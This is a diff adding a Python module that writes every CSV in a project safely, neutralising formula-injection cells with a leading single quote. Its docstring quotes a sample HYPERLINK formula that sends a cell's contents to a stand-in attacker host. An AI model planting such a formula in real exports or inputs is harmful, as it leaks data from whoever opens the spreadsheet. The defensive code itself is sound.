@@ -1,0 +1,51 @@
+"""The one CSV writer of the project: every CSV file Custodian writes goes through `csv_writer`.
+
+Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as a formula (and some skip a leading
+tab, carriage return or line feed first), so a customer who types `=HYPERLINK("http://evil.example/?x="&A1)`
+as their mailing address could make the marketing team's spreadsheet send data away. OWASP's advice: put a
+single quote in front of such a cell, so it is shown as the text it is.
+
+Only text is neutralised. Numbers (int, float, Decimal) are written as numbers: a negative reading (a home
+that feeds the grid) must stay the number -1.5, not become the text '-1.5, and a number can't carry a
+formula. So columns that hold numbers pass numbers, never pre-formatted strings.
+
+We don't use defusedcsv: it leaves cells that start with a tab or carriage return alone (both are on
+OWASP's list) and lets number-looking text through, which would make whether a cell is neutralised depend
+on what a customer typed rather than on the column's type.
+"""
+
+import csv
+from decimal import Decimal
+
+# OWASP's list, line feed, and the full-width forms some spreadsheet locales read as the same operators.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def neutralise(cell):
+    """A cell as it may be written: text starting like a formula gets a leading single quote."""
+    if cell is None:
+        return ""
+    if isinstance(cell, bool):  # a bool is an int to Python; write it as the word
+        return str(cell)
+    if isinstance(cell, int | float | Decimal):
+        return cell
+    text = str(cell)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+class SafeWriter:
+    """csv.writer's interface; every row's cells pass through `neutralise`."""
+
+    def __init__(self, out, **fmtparams):
+        self._writer = csv.writer(out, **fmtparams)
+
+    def writerow(self, row):
+        return self._writer.writerow([neutralise(cell) for cell in row])
+
+    def writerows(self, rows):
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(out, **fmtparams) -> SafeWriter:
+    return SafeWriter(out, **fmtparams)
